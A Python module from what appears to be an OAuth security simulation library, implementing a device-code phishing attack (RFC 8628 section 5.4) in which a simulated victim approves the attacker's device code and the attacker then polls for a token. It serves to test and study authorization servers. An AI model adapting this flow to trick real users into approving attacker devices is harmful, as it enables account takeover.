"""Device phishing: the user is persuaded to enter the code of the attacker's device."""

from typing import ClassVar

from simlib.attacks.base import BROWSER, FlowAttack, NotApplicable, Preparation, PreparationFailure, send
from simlib.attacks.oauth_requests import make_candidates, make_form_request, read_json
from simlib.scenario.effects import Context, Flow, Reply, Sleep

GRANT_TYPE = "urn:ietf:params:oauth:grant-type:device_code"


class DevicePhishing(FlowAttack):
    """Address, page and server are the real ones; only the device is the attacker's."""

    name: ClassVar[str] = "device_phishing"
    summary: ClassVar[str] = "the victim approves the attacker's device with a code that it was sent"
    source: ClassVar[str] = "RFC 8628 section 5.4"
    needs: ClassVar[tuple[str, ...]] = ("device_grant",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Request codes, send the victim the user code, and poll with the device code."""
        if not self.assets.device_grant:
            yield from ()
            return NotApplicable("no device signs in by this flow")
        device = make_form_request(client_id=self.assets.client_id, scope=self.assets.scope)
        codes = read_json((yield from send("device_authorization", device)))
        if not codes:
            return PreparationFailure()
        approved = yield from send(BROWSER, make_form_request(step="device", user_code=codes["user_code"]))
        if not isinstance(approved, Reply) or approved.status != 200:
            return PreparationFailure()
        yield Sleep(float(codes["interval"]))
        fields = {"grant_type": GRANT_TYPE, "device_code": codes["device_code"], "client_id": self.assets.client_id}
        answer = yield from self.assets.by_own_key(send("token", make_form_request(**fields)))
        return make_candidates(answer, "the token of the attacker's device")
